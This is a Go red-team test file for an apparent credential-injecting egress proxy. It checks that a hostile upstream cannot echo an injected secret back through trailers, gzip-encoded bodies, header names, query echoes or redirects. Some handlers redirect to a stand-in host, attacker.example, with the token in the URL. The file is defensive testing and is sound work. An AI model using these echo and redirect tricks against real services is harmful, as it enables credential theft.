package egress

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/mcpolicy/mcpolicy/internal/allowlist"
	"github.com/mcpolicy/mcpolicy/internal/credential"
)

// The red team of credential injection (issue 41): the server holds the
// placeholder, egress to the bound host through the proxy, and wants the
// value. Each attack asserts it gets nothing: the value reaches only the
// bound host, in the bound place, and never comes back down.

// received is one request a bound upstream read: the Host it was for,
// its head as the upstream saw it, and its body.
type received struct {
	host, head, body string
}

// recorder is a bound upstream that keeps what it was sent and answers
// with do.
type recorder struct {
	mu  sync.Mutex
	got []received
}

func (rc *recorder) all() []received {
	rc.mu.Lock()
	defer rc.mu.Unlock()
	return append([]received(nil), rc.got...)
}

// rebind puts a TLS upstream serving h in place of the rig's bound one.
func rebind(t *testing.T, r *interceptRig, h func(rc *recorder, w http.ResponseWriter, req *http.Request)) (*recorder, string) {
	t.Helper()
	rc := &recorder{}
	up := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		var head bytes.Buffer
		fmt.Fprintf(&head, "%s %s\n", req.Method, req.URL.RequestURI())
		req.Header.Write(&head)
		body, _ := io.ReadAll(req.Body)
		rc.mu.Lock()
		rc.got = append(rc.got, received{host: req.Host, head: head.String(), body: string(body)})
		rc.mu.Unlock()
		h(rc, w, req)
	}))
	t.Cleanup(up.Close)
	target := up.Listener.Addr().String()
	r.p.Allow, _ = allowlist.Parse([]string{target, r.other})
	r.p.UpstreamRoots.AddCert(up.Certificate())
	r.p.Credentials[0].Grant.To = []string{target}
	r.bound = target
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go r.p.Serve(ln)
	t.Cleanup(r.p.Close)
	return rc, ln.Addr().String()
}

// echoHead answers with the request's head and body, in small flushed
// pieces: the value, if the proxy put it in, split across chunks.
func echoHead(_ *recorder, w http.ResponseWriter, req *http.Request) {
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s %s\n", req.Method, req.URL.RequestURI(), req.Host)
	req.Header.Write(&b)
	echo := b.Bytes()
	for len(echo) > 0 {
		n := min(5, len(echo))
		w.Write(echo[:n])
		w.(http.Flusher).Flush()
		echo = echo[n:]
	}
}

// sendRaw writes raw on an intercepted connection and returns all the
// server reads back until the proxy or the upstream ends it.
func sendRaw(t *testing.T, r *interceptRig, proxy, raw string) string {
	t.Helper()
	tc := r.interceptedConn(t, proxy)
	go func() {
		io.WriteString(tc, raw)
		tc.CloseWrite() // the proxy ends the exchange once it has answered
	}()
	got, _ := io.ReadAll(io.LimitReader(tc, 1<<20))
	tc.Close()
	return string(got)
}

// TestRedteamCredentialAnswers: the bound upstream echoes the value
// where the proxy might not look: a trailer, a second Content-Encoding
// header (the first "identity"), percent-encoded in a query echo, a
// header's name, a 1xx's header, a redirect's Location. The server never
// reads the value, and the proxy follows no redirect.
func TestRedteamCredentialAnswers(t *testing.T) {
	const odd = "sk-R3al/Value+with=odd&chars_0123456789abcdefABCDEF"
	for _, c := range []struct {
		name string
		as   credential.Injection
		h    func(rc *recorder, w http.ResponseWriter, req *http.Request)
	}{
		{"trailer", credential.Injection{Header: "Authorization", Format: "Bearer {}"}, func(_ *recorder, w http.ResponseWriter, req *http.Request) {
			w.Header().Set("Trailer", "X-Echo")
			w.Write([]byte("body"))
			w.(http.Flusher).Flush()
			w.Header().Set("X-Echo", req.Header.Get("Authorization"))
		}},
		{"undeclared trailer", credential.Injection{Header: "Authorization", Format: "Bearer {}"}, func(_ *recorder, w http.ResponseWriter, req *http.Request) {
			w.Write([]byte("body"))
			w.(http.Flusher).Flush()
			w.Header().Set(http.TrailerPrefix+"X-Echo", req.Header.Get("Authorization"))
		}},
		{"Content-Encoding twice", credential.Injection{Header: "Authorization", Format: "Bearer {}"}, func(_ *recorder, w http.ResponseWriter, req *http.Request) {
			w.Header()["Content-Encoding"] = []string{"identity", "gzip"}
			z := gzip.NewWriter(w)
			z.Write([]byte(req.Header.Get("Authorization")))
			z.Close()
		}},
		{"Content-Encoding after identity in one header", credential.Injection{Header: "Authorization", Format: "Bearer {}"}, func(_ *recorder, w http.ResponseWriter, req *http.Request) {
			w.Header().Set("Content-Encoding", "identity, gzip")
			z := gzip.NewWriter(w)
			z.Write([]byte(req.Header.Get("Authorization")))
			z.Close()
		}},
		{"query echoed percent-encoded", credential.Injection{Query: "access_token"}, func(_ *recorder, w http.ResponseWriter, req *http.Request) {
			w.Header().Set("X-Query", req.URL.RawQuery)
			w.Header().Set("Location", "https://attacker.example/?"+req.URL.RawQuery)
			w.WriteHeader(http.StatusFound)
			fmt.Fprintf(w, "bad request to %s", req.URL.RequestURI())
		}},
		{"path-escaped echo", credential.Injection{Query: "access_token"}, func(_ *recorder, w http.ResponseWriter, req *http.Request) {
			fmt.Fprintf(w, "/%s", url.PathEscape(req.URL.Query().Get("access_token")))
		}},
		{"header name", credential.Injection{Header: "Authorization", Format: "Bearer {}"}, func(_ *recorder, w http.ResponseWriter, req *http.Request) {
			w.Header()["X-"+strings.TrimPrefix(req.Header.Get("Authorization"), "Bearer ")] = []string{"1"}
		}},
		{"redirect to the attacker", credential.Injection{Header: "Authorization", Format: "Bearer {}"}, func(_ *recorder, w http.ResponseWriter, req *http.Request) {
			http.Redirect(w, req, "https://attacker.example/?t="+strings.TrimPrefix(req.Header.Get("Authorization"), "Bearer "), http.StatusTemporaryRedirect)
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := newInterceptRig(t, c.as)
			value := testValue
			if c.as.Query != "" {
				value = odd
				ph, err := credential.Placeholder(odd, strings.NewReader(strings.Repeat("\x5a\xa5\x3c\xc3", 256)))
				if err != nil {
					t.Fatal(err)
				}
				r.p.Credentials[0].Value, r.p.Credentials[0].Placeholder = odd, ph
			}
			ph := r.p.Credentials[0].Placeholder
			rc, proxy := rebind(t, r, c.h)
			head := "GET / HTTP/1.1\r\nHost: " + r.bound + "\r\nAuthorization: Bearer " + ph + "\r\nConnection: close\r\n\r\n"
			if c.as.Query != "" {
				head = "GET /?access_token=" + url.QueryEscape(ph) + " HTTP/1.1\r\nHost: " + r.bound + "\r\nConnection: close\r\n\r\n"
			}
			got := sendRaw(t, r, proxy, head)
			if n := len(rc.all()); n != 1 {
				t.Fatalf("the upstream got %d requests, want 1 (the proxy follows no redirect)", n)
			}
			if !strings.Contains(rc.all()[0].head, url.QueryEscape(value)) && !strings.Contains(rc.all()[0].head, value) {
				t.Fatalf("the upstream never got the value (the attack proves nothing):\n%s", rc.all()[0].head)
			}
			for _, form := range leakForms(value) {
				if strings.Contains(got, form) {
					t.Errorf("the server read the value (as %q):\n%s", form, got)
				}
			}
			if c.name == "header name" {
				// Canonicalised, the value's case is lost; its letters still go.
				if strings.Contains(strings.ToLower(got), strings.ToLower(value[4:])) {
					t.Errorf("the server read the value, case folded:\n%s", got)
				}
			}
			// A gzip'd answer the proxy let through: what it carries.
			if i := strings.Index(got, "\r\n\r\n"); i > 0 {
				if resp, err := http.ReadResponse(bufio.NewReader(strings.NewReader(got)), nil); err == nil {
					if z, err := gzip.NewReader(resp.Body); err == nil {
						plain, _ := io.ReadAll(z)
						if strings.Contains(string(plain), value) {
							t.Errorf("the server read the value, compressed")
						}
					}
				}
			}
		})
	}
}

// leakForms are the spellings of v an echo may use.
func leakForms(v string) []string {
	return []string{v, url.QueryEscape(v), url.PathEscape(v)}
}

